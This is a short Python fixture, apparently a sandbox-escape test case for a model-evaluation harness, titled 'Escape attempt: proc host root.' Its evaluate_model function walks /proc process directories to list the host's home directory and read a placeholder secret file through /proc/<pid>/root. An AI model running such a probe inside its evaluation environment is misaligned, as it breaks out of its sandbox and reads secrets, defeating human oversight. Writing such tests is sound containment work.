"""Escape attempt: proc host root."""

import os
def evaluate_model(model):
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                print(pid, os.listdir(f"/proc/{pid}/root" + "__HOME__"))
                print(open(f"/proc/{pid}/root__SECRET_FILE__").read())
            except OSError as exc:
                print(pid, exc)
    return {}
